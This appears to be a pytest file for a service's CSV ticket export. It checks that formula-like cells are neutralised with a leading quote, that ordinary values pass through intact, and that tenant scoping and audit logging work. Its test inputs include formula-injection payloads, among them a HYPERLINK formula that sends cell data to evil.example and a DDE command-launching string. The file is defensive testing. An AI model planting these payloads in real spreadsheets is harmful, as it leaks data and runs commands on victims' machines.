"""Tickets for a spreadsheet: whose they are, and that no cell is a formula there."""

from __future__ import annotations

import csv
import io

import pytest
from serving import Served

from advisor.service.spreadsheet import csv_of
from advisor.service.store.tickets import Tickets


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-2+3", "@SUM(A1)", "|calc", "\t=1", " =1", "\n=1", "\x00=1", "\u202e=1", "＝1",
     '=HYPERLINK("http://evil.example/?" & A1, "click")', "=cmd|' /C calc'!A0"],
)  # fmt: skip
def test_no_cell_is_a_formula(text: str) -> None:
    (row,) = csv.reader(io.StringIO(csv_of([[text]]).decode("utf-8-sig")))
    assert row[0].startswith("'")


def test_cells_stay_what_they_are() -> None:
    given = ["my loss is nan", 'a "quoted", one', "two\nlines", "训练损失", "", "a=b"]
    data = csv_of([given, [None, 3]])
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))) == [
        given,
        ["", "3"],
    ]


def test_tickets_for_a_spreadsheet(served: Served) -> None:
    mine, other = (served.token("agent", tenant=t) for t in ("sheet", "other-sheet"))
    with served.store.writing() as session:
        for n in range(205):  # more than a page of the list
            Tickets(session, "sheet").open(subject=f"=loss {n}")
    done = served.client.get("/v1/tickets.csv", headers=mine)
    assert done.headers["content-type"] == "text/csv; charset=utf-8"
    assert done.headers["content-disposition"].startswith("attachment")
    head, *rows = csv.reader(io.StringIO(done.content.decode("utf-8-sig"), newline=""))
    assert {r[head.index("subject")] for r in rows} == {f"'=loss {n}" for n in range(205)}
    few = served.client.get("/v1/tickets.csv?words=204", headers=mine).content
    assert few.count(b"\r\n") == 2
    assert served.client.get("/v1/tickets.csv", headers=other).content.count(b"\r\n") == 1
    assert served.client.get("/v1/tickets.csv", headers=served.token("ask")).status_code == 403
    assert served.client.get("/queue.csv", follow_redirects=False).status_code == 303
    entries = served.client.get("/v1/audit", headers=served.token("admin", tenant="sheet")).json()
    assert [e["detail"] for e in entries if e["action"] == "tickets.export"] == [
        '{"tickets": 1}', '{"tickets": 205}',
    ]  # fmt: skip
